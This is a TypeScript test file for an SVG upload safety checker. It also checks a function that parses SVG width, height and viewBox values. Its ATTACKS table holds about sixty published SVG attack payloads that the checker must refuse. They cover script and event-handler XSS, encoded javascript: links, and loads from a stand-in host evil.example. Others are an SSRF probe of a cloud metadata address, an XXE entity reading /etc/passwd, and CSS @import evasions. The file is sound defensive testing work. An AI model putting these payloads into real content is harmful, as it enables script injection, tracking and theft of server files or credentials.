import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { checkSvg, mayBeSvg, rootElementName, svgText } from '../../src/domain/svg/safety.ts';
import { svgDimensions } from '../../src/domain/svg/dimensions.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inner: string, attrs = '') => `<svg ${NS} ${XLINK} ${attrs}>${inner}</svg>`;

/**
 * Known SVG attack payloads (OWASP XSS filter evasion, the PortSwigger XSS cheat sheet,
 * published SVG sanitizer bypasses, SSRF and XXE write-ups), each of which must be refused.
 */
const ATTACKS: Record<string, string> = {
  'script element': svg('<script>alert(1)</script>'),
  'script with CDATA': svg('<script type="text/javascript"><![CDATA[alert(document.domain)]]></script>'),
  'script from another file': svg('<script href="https://evil.example/x.js"/>'),
  'script in an upper-case tag name': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'script in a foreign prefix bound to SVG': `<svg ${NS} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`,
  'XHTML script through a namespace': `<svg ${NS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`,
  'XHTML iframe through a namespace': `<svg ${NS}><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example"/></svg>`,
  'onload on the root': `<svg ${NS} onload="alert(1)"><rect/></svg>`,
  'onload upper case': `<svg ${NS} ONLOAD="alert(1)"><rect/></svg>`,
  'onclick on a shape': svg('<rect width="10" height="10" onclick="alert(1)"/>'),
  'onmouseover on text': svg('<text onmouseover="alert(1)">hi</text>'),
  'onbegin on an animation': svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  'onerror on an image': svg('<image href="#" onerror="alert(1)"/>'),
  'event handler with a namespace prefix': `<svg ${NS} xmlns:e="http://www.w3.org/2001/xml-events"><rect e:onclick="alert(1)"/></svg>`,
  'javascript: link': svg('<a href="javascript:alert(1)"><text>click</text></a>'),
  'javascript: xlink': svg('<a xlink:href="javascript:alert(1)"><text>click</text></a>'),
  'javascript: with entities': svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
  'javascript: with hex entities and tabs': svg('<a href="&#x6A;ava&#x09;script:alert(1)"><text>x</text></a>'),
  'javascript: with leading spaces': svg('<a href="  javascript:alert(1)"><text>x</text></a>'),
  'JaVaScRiPt mixed case': svg('<a href="JaVaScRiPt:alert(1)"><text>x</text></a>'),
  'data:text/html link': svg('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><text>x</text></a>'),
  'set rewriting href to javascript:': svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
  'animate rewriting xlink:href': svg('<a><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a>'),
  'animate rewriting an event handler': svg('<rect><set attributeName="onmouseover" to="alert(1)"/></rect>'),
  'foreignObject with HTML': svg('<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>'),
  'foreignObject with iframe': svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject>'),
  'handler element (SVG Tiny)': `<svg ${NS} xmlns:ev="http://www.w3.org/2001/xml-events"><handler type="application/ecmascript" ev:event="load">alert(1)</handler></svg>`,
  'external image': svg('<image href="https://evil.example/track.png" width="1" height="1"/>'),
  'external image via xlink': svg('<image xlink:href="http://169.254.169.254/latest/meta-data/" width="1" height="1"/>'),
  'relative image path': svg('<image href="../../etc/passwd" width="1" height="1"/>'),
  'file: URL': svg('<image href="file:///etc/passwd" width="1" height="1"/>'),
  'nested SVG data URL': svg('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="1" height="1"/>'),
  'use of an external document': svg('<use href="https://evil.example/sprite.svg#icon"/>'),
  'use of a data: document': svg('<use href="data:image/svg+xml,&lt;svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;#x"/>'),
  'feImage from outside': svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
  'external fill url()': svg('<rect fill="url(https://evil.example/x.svg#g)" width="1" height="1"/>'),
  'external filter url()': svg('<rect filter="url(\'//evil.example/f.svg#f\')" width="1" height="1"/>'),
  'url() in a style attribute': svg('<rect style="fill: url(https://evil.example/p.svg#p)" width="1" height="1"/>'),
  'background-image in <style>': svg('<style>rect { background-image: url("https://evil.example/beacon") }</style><rect/>'),
  'CSS-escaped url(': svg('<style>rect { fill: u\\72l(https://evil.example/x) }</style><rect/>'),
  'hex-escaped url in style attribute': svg('<rect style="fill:\\75\\72\\6c(https://evil.example/x)"/>'),
  '@import': svg('<style>@import url(https://evil.example/x.css);</style><rect/>'),
  '@import with a string': svg('<style>@import "https://evil.example/x.css";</style><rect/>'),
  '@import split by a comment': svg('<style>@im/**/port "https://evil.example/x.css";</style><rect/>'),
  'image-set()': svg('<style>rect { background: image-set("https://evil.example/x.png" 1x) }</style><rect/>'),
  'font-face from outside': svg('<style>@font-face { font-family: x; src: url(https://evil.example/font.woff) }</style><text>x</text>'),
  'expression()': svg('<rect style="width: expression(alert(1))"/>'),
  '-moz-binding': svg('<rect style="-moz-binding: url(\'https://evil.example/xbl.xml#xss\')"/>'),
  'javascript: in CSS': svg('<style>a { background: url(javascript:alert(1)) }</style>'),
  'xml-stylesheet instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>${svg('<rect/>')}`,
  'XSLT stylesheet instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,..."?>${svg('<rect/>')}`,
  'external entity (XXE)': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${svg('<text>&xxe;</text>')}`,
  'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>${svg('<text>&lol2;</text>')}`,
  'external DTD': `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('<rect/>')}`,
  'public SVG DOCTYPE': `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg('<rect/>')}`,
  'xml:base redirecting links': svg('<a xml:base="https://evil.example/" href="#x"><text>x</text></a>'),
  'HTML embed': svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x.swf"/>'),
  'MathML with href': `<svg ${NS}><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi>x</mi></math></svg>`,
  'not well-formed (browser recovery tricks)': `<svg ${NS}><rect/><script>alert(1)</svg>`,
  'unquoted handler (not XML)': '<svg/onload=alert(1)>',
  'boolean attribute (not XML)': `<svg ${NS} onload><rect/></svg>`,
  'HTML, not SVG': '<html><body><script>alert(1)</script></body></html>',
  'root is not svg': `<x ${NS}><rect/></x>`,
  'svg without its namespace': '<svg><rect/></svg>',
};

/** Real-world shapes that must stay allowed. */
const ALLOWED: Record<string, string> = {
  'plain shapes': svg('<rect width="10" height="10" fill="#c00"/><circle cx="5" cy="5" r="2"/>', 'width="10" height="10"'),
  'gradient by fragment': svg('<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><rect fill="url(#g)" width="1" height="1"/>'),
  'quoted fragment url()': svg('<rect style="fill:url(\'#g\'); filter: url( &quot;#f&quot; )" width="1" height="1"/>'),
  'use of a symbol': svg('<defs><symbol id="i"><path d="M0 0h1v1z"/></symbol></defs><use href="#i"/><use xlink:href="#i"/>'),
  'internal link': svg('<a href="#top"><text>top</text></a>'),
  'style element with classes': svg('<style>.a { fill: #333; stroke-width: 2px } @media (prefers-color-scheme: dark) { .a { fill: #eee } }</style><rect class="a"/>'),
  'embedded PNG picture': svg('<image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==" width="1" height="1"/>'),
  'Inkscape metadata': `<svg ${NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" sodipodi:docname="logo.svg" inkscape:version="1.3"><sodipodi:namedview id="nv" inkscape:zoom="1"/><metadata><rdf:RDF><dc:title>Logo</dc:title></rdf:RDF></metadata><g inkscape:label="Layer 1"><path d="M0 0L10 10"/></g></svg>`,
  'XML declaration, comments and a title': `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Generator: some editor -->\n${svg('<title>Icon</title><desc>An icon; not onload="x"</desc><path d="M1 1"/>')}`,
  'text mentioning javascript': svg('<text>Learn JavaScript: the basics</text>'),
  'animation of a harmless attribute': svg('<rect><animate attributeName="opacity" from="0" to="1" dur="1s"/></rect>'),
};

describe('SVG safety (checkSvg)', () => {
  for (const [name, text] of Object.entries(ATTACKS)) {
    it(`refuses ${name}`, () => {
      const { problems } = checkSvg(text);
      assert.ok(problems.length > 0, `expected a problem for: ${text}`);
      for (const p of problems) assert.equal(typeof p, 'string');
    });
  }
  for (const [name, text] of Object.entries(ALLOWED)) {
    it(`allows ${name}`, () => {
      assert.deepEqual(checkSvg(text).problems, []);
    });
  }

  it('names what it found, so the uploader can fix it', () => {
    const { problems } = checkSvg(svg('<rect onclick="x()"/><image href="https://evil.example/a.png"/>'));
    assert.ok(problems.some((p) => p.includes('onclick')));
    assert.ok(problems.some((p) => p.includes('https://evil.example/a.png')));
  });

  it('decodes text: UTF-8 with or without BOM; UTF-16 and broken UTF-8 are refused', () => {
    assert.equal(svgText(Buffer.from('\ufeff<svg/>')), '<svg/>');
    assert.equal(svgText(Buffer.from('<svg>é</svg>')), '<svg>é</svg>');
    assert.equal(svgText(Buffer.from([0xff, 0xfe, 0x3c, 0x00])), null);
    assert.equal(svgText(Buffer.from([0x3c, 0xc3, 0x28])), null);
  });

  it('finds the root element past the declaration, comments, instructions and DOCTYPE', () => {
    assert.equal(rootElementName('\ufeff<?xml version="1.0"?>\n<!-- c --><svg/>'), 'svg');
    assert.equal(rootElementName('<!DOCTYPE svg [<!ENTITY a "b">]><svg:svg/>'), 'svg:svg');
    assert.equal(rootElementName('<!doctype html><html><body/></html>'), 'html');
    assert.equal(rootElementName('plain text'), null);
    assert.equal(rootElementName('<!-- never closed'), null);
  });

  it('recognises text that may be an SVG from its first bytes', () => {
    assert.equal(mayBeSvg(Buffer.from('\ufeff  \n<svg')), true);
    assert.equal(mayBeSvg(Buffer.from('<?xml version="1.0"?>')), true);
    assert.equal(mayBeSvg(Buffer.from('hello')), false);
    assert.equal(mayBeSvg(Buffer.from([0, 1, 2])), false);
  });
});

describe('svgDimensions', () => {
  const cases: Array<[Record<string, string>, { width: number | null; height: number | null }]> = [
    [{ width: '120', height: '80' }, { width: 120, height: 80 }],
    [{ width: '120px', height: '80.4px' }, { width: 120, height: 80 }],
    [{ width: '1in', height: '72pt' }, { width: 96, height: 96 }],
    [{ width: '10mm', height: '1cm' }, { width: 38, height: 38 }],
    [{ viewBox: '0 0 300 150' }, { width: 300, height: 150 }],
    [{ viewBox: '0,0,24,24' }, { width: 24, height: 24 }],
    [{ width: '600', viewBox: '0 0 300 150' }, { width: 600, height: 300 }],
    [{ height: '50', viewBox: '0 0 300 150' }, { width: 100, height: 50 }],
    [{ width: '100%', height: '100%', viewBox: '0 0 64 32' }, { width: 64, height: 32 }],
    [{ width: '100%', height: '100%' }, { width: null, height: null }],
    [{ width: '2em', height: '2em' }, { width: null, height: null }],
    [{}, { width: null, height: null }],
    [{ viewBox: '0 0 -1 5' }, { width: null, height: null }],
    [{ width: '0', height: '10' }, { width: null, height: null }],
  ];
  for (const [attrs, expected] of cases) {
    it(`${JSON.stringify(attrs)} → ${JSON.stringify(expected)}`, () => assert.deepEqual(svgDimensions(attrs), expected));
  }
});
